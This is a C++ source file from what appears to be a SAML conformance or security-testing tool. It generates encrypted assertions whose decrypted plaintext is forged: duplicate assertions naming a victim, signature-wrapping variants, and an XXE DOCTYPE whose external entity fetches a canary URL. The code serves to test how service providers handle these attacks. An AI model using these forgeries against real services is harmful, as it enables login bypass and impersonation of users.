// SPDX-License-Identifier: Apache-2.0
// encryption.plaintext_replaced — what the SP finds once it decrypts is whatever the encrypter
// chose: two assertions (attack-catalogue ENC-MULTI-INNER, ruby-saml b5c6c4d), a wrapping
// structure or a Signature that points outside the decrypted fragment (ENC-DECRYPT-THEN-XSW), or a
// DOCTYPE with an external entity (ENC-XXE-PLAINTEXT). saml-core §2.3.4 / xmlenc-core §4.4.3: the
// plaintext is one Assertion, and every structural, ID and signature check applies to it again.
// Param `plaintext`: evil_then_signed (default) | signed_then_evil | signature_in_forged |
// reference_to_response | copy_outside | doctype_external_entity | entity_reference; `victim`.
#include "mutators/encryption/encryption.hpp"
#include "mutators/keys/keys.hpp"
#include "mutators/mutators.hpp"
#include "samlt/core/random.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {
namespace {

namespace n = core::names;

// A forged copy of the signed Assertion: no Signature, a fresh ID, the victim's identity.
std::string forged_copy(xmlNode* assertion, const std::string& victim, bool keep_signature) {
  xmlNode* copy = xmlCopyNode(assertion, 1);
  if (xmlNode* signature = core::child_named(copy, n::ns_dsig, "Signature"); signature && !keep_signature) {
    core::remove_node(signature);
  }
  core::set_attribute(copy, "ID", core::new_assertion_id());
  keys::write_victim(copy, victim);
  std::string out = core::serialize(copy);
  xmlFreeNode(copy);
  return out;
}

// The signed Assertion with its single Reference pointing at `uri` instead of its own ID.
std::string repointed(xmlNode* assertion, const std::string& uri) {
  xmlNode* copy = xmlCopyNode(assertion, 1);
  xmlNode* info = core::child_named(core::child_named(copy, n::ns_dsig, "Signature"), n::ns_dsig, "SignedInfo");
  core::set_attribute(core::child_named(info, n::ns_dsig, "Reference"), "URI", uri);
  std::string out = core::serialize(copy);
  xmlFreeNode(copy);
  return out;
}

}  // namespace

core::Result<void> encryption_plaintext_replaced(Target& target) {
  auto form = enc::choice(target, "plaintext",
                          "evil_then_signed|signed_then_evil|signature_in_forged|reference_to_response|copy_outside|"
                          "doctype_external_entity|entity_reference",
                          "evil_then_signed");
  auto victim = string_param(target, "victim");
  auto recipient = enc::recipient(target);
  auto assertion = enc::assertion(target);
  if (!form || !victim || !recipient || !assertion) {
    return core::fail(!form ? form.error() : !victim ? victim.error() : !recipient ? recipient.error() : assertion.error());
  }
  std::string who = victim->value_or(std::string(keys::k_default_victim));
  std::string signed_original = core::serialize(*assertion);
  std::string plaintext;
  if (*form == "evil_then_signed") {
    plaintext = forged_copy(*assertion, who, false) + signed_original;
  } else if (*form == "signed_then_evil") {
    plaintext = signed_original + forged_copy(*assertion, who, false);
  } else if (*form == "signature_in_forged") {
    plaintext = forged_copy(*assertion, who, true);  // the original's Signature, now over a foreign ID
  } else if (*form == "reference_to_response") {
    plaintext = repointed(*assertion, "#" + core::attribute(target.doc->root(), "ID").value_or(""));
  } else if (*form == "copy_outside") {
    // The signed original stays inside; a victim copy with the same ID waits outside, in
    // samlp:Extensions, for an SP that resolves the ID after decrypting.
    plaintext = signed_original;
    xmlNode* copy = xmlCopyNode(*assertion, 1);
    core::remove_node(core::child_named(copy, n::ns_dsig, "Signature"));
    keys::write_victim(copy, who);
    xmlNode* status = core::child_named(target.doc->root(), n::ns_protocol, "Status");
    xmlNode* extensions = core::append_element(target.doc->root(), n::ns_protocol, "samlp", "Extensions");
    xmlUnlinkNode(extensions);
    xmlAddPrevSibling(status, extensions);
    xmlAddChild(extensions, copy);
  } else {
    // An external entity referenced from the email claim's value: a parser that loads it would
    // fetch the canary.
    std::string with_reference = signed_original;
    auto value = with_reference.find(target.spec.attributes.empty() ? "</NameID>" : "</AttributeValue>");
    with_reference.insert(value == std::string::npos ? 0 : value, "&e;");
    plaintext = *form == "entity_reference"
                    ? with_reference
                    : "<!DOCTYPE Assertion [<!ENTITY e SYSTEM \"" + keys::canary(target, "/decrypted") + "\">]>" +
                          with_reference;
  }
  auto replaced = raw::replace_with_encrypted(*assertion, *recipient, plaintext, enc::app_recipe(target));
  if (!replaced) {
    return core::fail(replaced.error());
  }
  return {};
}

}  // namespace samlt::idp::mutators
